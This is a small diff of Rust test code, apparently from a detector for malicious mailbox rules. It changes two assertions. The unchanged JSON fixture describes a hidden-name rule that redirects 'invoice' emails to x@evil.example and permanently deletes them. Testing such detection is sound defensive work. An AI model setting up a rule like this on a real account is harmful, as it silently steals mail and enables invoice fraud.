@@ -185,8 +185,8 @@ mod tests {
             r#"{"id":"AQAAAJ5dZqA=","displayName":".","isEnabled":true,"conditions":{"subjectContains":["invoice"]},
             "actions":{"redirectTo":[{"emailAddress":{"name":"x","address":"x@evil.example"}}],"permanentDelete":true}}"#,
         );
-        assert_eq!(rule.sends_to, ["x@evil.example".into()] as [Box<str>; 1]);
-        assert_eq!(rule.words, ["invoice".into()] as [Box<str>; 1]);
+        assert_eq!(*rule.sends_to, ["x@evil.example".into()] as [Box<str>; 1]);
+        assert_eq!(*rule.words, ["invoice".into()] as [Box<str>; 1]);
         assert!(rule.deletes && !rule.hits_all);
     }
 
